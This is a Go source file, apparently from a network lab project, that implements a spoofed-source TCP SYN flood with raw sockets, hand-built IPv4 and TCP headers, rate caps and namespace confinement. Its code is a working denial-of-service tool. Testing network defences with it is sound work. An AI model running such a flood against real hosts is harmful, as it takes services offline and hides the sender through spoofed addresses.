package l4exp

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"

	"github.com/switchyard/switchyard/internal/namednetns"
)

// SYNOptions describe a random-source SYN flood.
type SYNOptions struct {
	// NS is the namespace the packets leave from.
	NS string
	// Sources is the IPv4 range the source addresses are drawn from (uniformly; a range the lab
	// does not use, so that no SYN-ACK reaches a real host).
	Sources netip.Prefix
	// Dst is the target, an IPv4 address and port.
	Dst netip.AddrPort
	// Duration and Max bound the flood: it stops at whichever comes first.
	Duration time.Duration
	Max      uint64
	// Senders is the number of goroutines sending, each on a socket of its own (1 or 2).
	Senders int
}

// SYNResult is what a flood sent.
type SYNResult struct {
	Sent uint64 `json:"sent"`
	// Refused counts sends the kernel refused (ENOBUFS: the device's queue was full).
	Refused uint64        `json:"refused"`
	Took    time.Duration `json:"took_ns"`
}

// PPS is the rate of packets sent.
func (r SYNResult) PPS() float64 { return float64(r.Sent) / max(r.Took.Seconds(), 1e-9) }

// SYNFlood sends TCP SYNs with random source addresses from o.Sources and random source ports
// to o.Dst, as fast as one raw socket per sender goes (AF_INET, SOCK_RAW, IPPROTO_RAW: the
// IPv4 header is ours), until o.Duration passes or o.Max packets are sent.
func SYNFlood(ctx context.Context, o SYNOptions) (SYNResult, error) {
	if !o.Sources.Addr().Is4() || !o.Dst.Addr().Is4() {
		return SYNResult{}, fmt.Errorf("syn flood: sources %s and target %s must be IPv4", o.Sources, o.Dst)
	}
	if o.Duration <= 0 || o.Max == 0 || o.Senders < 1 || o.Senders > 2 {
		return SYNResult{}, fmt.Errorf("syn flood: a duration, a packet cap and 1 or 2 senders are required (%v, %d, %d)", o.Duration, o.Max, o.Senders)
	}
	fds := make([]int, 0, o.Senders)
	defer func() {
		for _, fd := range fds {
			unix.Close(fd)
		}
	}()
	for range o.Senders {
		// The socket belongs to the namespace it is made in, whichever thread sends on it.
		fd, err := namednetns.In(o.NS, func() (int, error) { return unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW) })
		if err != nil {
			return SYNResult{}, fmt.Errorf("syn flood: open a raw socket in %s: %w", o.NS, err)
		}
		fds = append(fds, fd)
	}
	ctx, cancel := context.WithTimeout(ctx, o.Duration)
	defer cancel()
	var sent, refused atomic.Uint64
	var firstErr error
	var once sync.Once
	var wg sync.WaitGroup
	start := time.Now()
	for i, fd := range fds {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if err := floodOne(ctx, fd, o, uint64(i), &sent, &refused); err != nil {
				once.Do(func() { firstErr = err; cancel() })
			}
		}()
	}
	wg.Wait()
	r := SYNResult{Sent: sent.Load(), Refused: refused.Load(), Took: time.Since(start)}
	return r, firstErr
}

// floodOne is one sender's loop: it counts, and checks the clock and the cap, every 256
// packets (so the cap may be passed by 255 per sender).
func floodOne(ctx context.Context, fd int, o SYNOptions, seed uint64, sent, refused *atomic.Uint64) error {
	rng := rand.New(rand.NewPCG(uint64(time.Now().UnixNano()), seed))
	dst := o.Dst.Addr().As4()
	to := &unix.SockaddrInet4{Addr: dst}
	base := binary.BigEndian.Uint32(o.Sources.Masked().Addr().AsSlice())
	hostMask := uint32(1)<<(32-o.Sources.Bits()) - 1
	if o.Sources.Bits() == 0 {
		hostMask = ^uint32(0)
	}
	var pkt [40]byte
	for {
		var n, refusedN uint64
		for range 256 {
			src := base | rng.Uint32()&hostMask
			synPacket(&pkt, src, binary.BigEndian.Uint32(dst[:]), uint16(rng.Uint32()|1024), o.Dst.Port(), rng.Uint32())
			err := unix.Sendto(fd, pkt[:], 0, to)
			switch {
			case err == nil:
				n++
			case errors.Is(err, unix.ENOBUFS) || errors.Is(err, unix.EAGAIN):
				refusedN++
			default:
				sent.Add(n)
				return fmt.Errorf("syn flood: send: %w", err)
			}
		}
		refused.Add(refusedN)
		if sent.Add(n) >= o.Max || ctx.Err() != nil {
			return nil
		}
	}
}

// synPacket writes an IPv4 header (20 bytes, no options, DF) and a TCP SYN (20 bytes, no
// options, window 64240) with both checksums into p.
func synPacket(p *[40]byte, src, dst uint32, sport, dport uint16, seq uint32) {
	ip, tcp := p[:20], p[20:]
	ip[0], ip[1] = 0x45, 0
	binary.BigEndian.PutUint16(ip[2:], 40)
	binary.BigEndian.PutUint16(ip[4:], uint16(seq>>16)) // id
	binary.BigEndian.PutUint16(ip[6:], 0x4000)          // DF
	ip[8], ip[9] = 64, unix.IPPROTO_TCP
	binary.BigEndian.PutUint16(ip[10:], 0)
	binary.BigEndian.PutUint32(ip[12:], src)
	binary.BigEndian.PutUint32(ip[16:], dst)
	binary.BigEndian.PutUint16(ip[10:], checksum(0, ip))
	binary.BigEndian.PutUint16(tcp[0:], sport)
	binary.BigEndian.PutUint16(tcp[2:], dport)
	binary.BigEndian.PutUint32(tcp[4:], seq)
	binary.BigEndian.PutUint32(tcp[8:], 0)
	tcp[12], tcp[13] = 5<<4, 0x02 // data offset 5 words; SYN
	binary.BigEndian.PutUint16(tcp[14:], 64240)
	binary.BigEndian.PutUint32(tcp[16:], 0) // checksum, urgent pointer
	// The pseudo-header: source, destination, zero, protocol, TCP length.
	pseudo := uint32(src>>16) + uint32(src&0xffff) + uint32(dst>>16) + uint32(dst&0xffff) + unix.IPPROTO_TCP + 20
	binary.BigEndian.PutUint16(tcp[16:], checksum(pseudo, tcp))
}

// checksum is the Internet checksum (RFC 1071) of b, starting from the partial sum.
func checksum(sum uint32, b []byte) uint16 {
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(b[i])<<8 | uint32(b[i+1])
	}
	if len(b)%2 == 1 {
		sum += uint32(b[len(b)-1]) << 8
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}
